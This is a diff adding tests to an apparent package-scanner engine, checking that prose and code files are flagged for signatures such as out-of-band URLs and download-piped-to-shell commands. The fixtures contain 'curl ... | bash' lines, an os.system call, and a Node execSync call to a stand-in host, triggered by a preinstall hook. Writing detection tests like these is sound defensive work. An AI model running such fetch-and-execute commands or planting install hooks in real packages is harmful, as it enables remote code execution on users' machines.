@@ -109,3 +109,29 @@ def test_every_copy_of_a_file_carries_its_signature_hits(engine: Engine) -> None
         "package/lib/copy/a.js",
         "package/lib/b.js",
     }
+
+
+def _hit_rules(engine: Engine, archive: bytes, rel: str) -> set[str]:
+    package = engine.prepare(read_archive(archive))
+    return {hit.rule for source in package.files if source.rel == rel for hit in source.signatures}
+
+
+def test_prose_is_scanned_for_endpoints_not_for_what_code_does(engine: Engine) -> None:
+    manual = (
+        "# Deploying\n\nRun `curl -s https://get.example/i.sh | bash`, or from Python:\n\n"
+        "    os.system('curl -s https://get.example/i.sh | bash')\n\n"
+        "Errors are reported to https://collector.example.oast.fun/r.\n"
+    )
+    hits = _hit_rules(engine, sdist({"docs/deploy.md": manual}), "docs/deploy.md")
+    assert "oast_url" in hits
+    assert "download_pipe_to_shell" not in hits
+    as_code = _hit_rules(engine, sdist({"t/deploy.py": manual}), "t/deploy.py")
+    assert "download_pipe_to_shell" in as_code
+
+
+def test_prose_named_file_that_opens_like_code_gets_every_signature(engine: Engine) -> None:
+    script = (
+        "const cp = require('child_process');\ncp.execSync('curl -s https://x.example/p | sh');\n"
+    )
+    archive = npm_tarball({"README.md": script}, scripts={"preinstall": "node lib/README.md"})
+    assert "runs_commands" in _hit_rules(engine, archive, "README.md")
